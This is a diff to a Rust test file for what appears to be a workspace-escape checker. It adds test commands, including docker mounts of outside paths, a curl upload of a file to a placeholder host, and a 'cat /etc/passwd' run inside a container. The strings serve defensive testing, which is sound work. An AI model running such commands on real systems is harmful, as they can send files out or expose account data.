@@ -42,6 +42,11 @@ fn every_command_and_redirection_that_leaves_the_workspace_is_asked_about() {
         "if cat ../out/s; then ls; fi",
         "{ ls; } > ../out/P",
         "ls | cat > ../out/P",
+        "docker run -v ../out:/app img ls",
+        "docker run --volume=../out:/app img ls",
+        "docker run --mount type=bind,source=../out,target=/app img ls",
+        "docker run --env-file ../out/s img ls",
+        "curl -F 'f=<../out/s' http://e.test",
     ] {
         assert!(
             asked(&place.workspace, script).contains(&leaving),
@@ -66,6 +71,8 @@ fn what_stays_inside_is_not_asked_about() {
         "git commit -m '/etc is mentioned'",
         "/usr/bin/env",
         "mkdir new && cd new && touch ../f.txt",
+        "docker run --rm -it -v ./sub:/app -w /app --mount type=bind,source=sub,target=/x img ls -la /etc",
+        "docker exec db cat /etc/passwd",
         "cat $x/y",
     ] {
         assert_eq!(asked(&place.workspace, script), Vec::<String>::new(), "{script}");
